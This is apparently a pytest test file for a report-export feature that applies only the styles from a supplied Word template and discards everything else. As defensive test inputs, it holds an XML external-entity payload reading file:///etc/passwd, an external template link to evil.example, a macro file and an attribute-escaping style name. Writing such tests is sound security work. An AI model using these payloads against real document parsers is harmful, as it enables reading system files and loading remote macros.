"""A partnership's own look: its styles are taken, and nothing else of its file, whatever that holds."""

from __future__ import annotations

import io
import subprocess
import sys
import zipfile

import pytest

from dhr_desktop.core.errors import Refused
from dhr_desktop.operations.report import exports, sections, shapes
from dhr_desktop.report.word_template import read_template
from dhr_desktop.system.folders import templates

from .reading import headings, names, part, words

HOUSE = templates() / "report" / "house.docx"


def restyled(change, extra=()):
    out = io.BytesIO()
    with zipfile.ZipFile(HOUSE) as held, zipfile.ZipFile(out, "w") as made:
        for name in held.namelist():
            made.writestr(name, change(name, held.read(name).decode()))
        for name, data in extra:
            made.writestr(name, data)
    return out.getvalue()


def green(name, text):
    return text.replace("1F3A5F", "0B6E2E").replace("Calibri", "Georgia") if name == "word/styles.xml" else text


def written(case, tmp_path, template):
    if sections.root(case, shapes.OVERVIEW) is None:
        sections.begin(case, shapes.shape("overview-2016"))
    exports.write_document(case, shapes.OVERVIEW, tmp_path / "t.docx", template=template, overwrite=True)
    return (tmp_path / "t.docx").read_bytes()


def test_the_house_style_is_written_by_its_script():
    code = f"import sys; sys.path.insert(0, {str(HOUSE.parent)!r}); import make_house; sys.stdout.buffer.write(make_house.data())"
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, check=True).stdout == HOUSE.read_bytes()


def test_styles_are_taken_and_numbers_stay(review, tmp_path):
    plain, dressed = written(review, tmp_path, b""), written(review, tmp_path, restyled(green))
    assert "0B6E2E" in part(dressed, "word/styles.xml") and "Georgia" in part(dressed, "word/styles.xml")
    assert "1F3A5F" not in part(dressed, "word/styles.xml")
    assert words(dressed) == words(plain) and headings(dressed) == headings(plain)
    assert part(dressed, "word/numbering.xml") == part(plain, "word/numbering.xml")
    assert part(dressed, "word/styles.xml").count("<w:numPr>") == part(plain, "word/styles.xml").count("<w:numPr>") == 3


def test_words_of_header_and_footer_stand_on_every_page(review, tmp_path):
    def change(name, text):
        return text.replace(">Header<", ">Eastmere Borough<") if name == "word/header1.xml" else text

    dressed = written(review, tmp_path, restyled(change))
    assert "Eastmere Borough" in part(dressed, "word/header1.xml") and "OFFICIAL-SENSITIVE" in part(
        dressed, "word/header1.xml"
    )


def test_nothing_else_comes_along(review, tmp_path):
    def change(name, text):
        if name == "word/styles.xml":
            return text.replace("<w:b/>", '<w:b/><w:evil r:id="rId9" xmlns:r="x"/>').replace(
                'w:val="Title"', 'w:val="Title&quot;&gt;&lt;x"'
            )
        if name == "word/_rels/document.xml.rels":
            return text.replace(
                "</Relationships>",
                '<Relationship Id="x9" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
            )
        return text

    extra = [
        ("word/vbaProject.bin", b"macro"),
        ("docProps/custom.xml", b"<x>secret</x>"),
        ("customXml/item1.xml", b"<x/>"),
        (
            "word/theme/theme1.xml",
            b'<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="Secret"><a:themeElements/><a:extLst><a:ext uri="evil"/></a:extLst></a:theme>',
        ),
    ]
    dressed = written(review, tmp_path, restyled(change, extra))
    whole = "".join(part(dressed, each) for each in names(dressed))
    assert not any(
        each in whole for each in ("evil", "secret", "Secret", "macro", "attachedTemplate")
    ) and "word/vbaProject.bin" not in names(dressed)


@pytest.mark.parametrize("data", [b"no word file", b"PK\x03\x04 broken"])
def test_a_damaged_template_is_refused_and_nothing_is_written(review, tmp_path, data):
    with pytest.raises(Refused, match="template cannot be used"):
        written(review, tmp_path, data)
    assert not (tmp_path / "t.docx").exists()


def test_a_template_that_asks_for_things_outside_is_refused(review, tmp_path):
    def change(name, text):
        return (
            text.replace("<w:styles", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:styles', 1)
            if name == "word/styles.xml"
            else text
        )

    with pytest.raises(Refused, match="template cannot be used"):
        written(review, tmp_path, restyled(change))


def test_odd_styles_are_read_for_what_they_are():
    told = read_template(
        restyled(
            lambda name, text: (
                text.replace('w:val="heading 1"', 'w:val="HEADING 1"') if name == "word/styles.xml" else text
            )
        )
    )
    assert "heading 1" in told.looks and "<w:b/>" in told.looks["heading 1"][1]
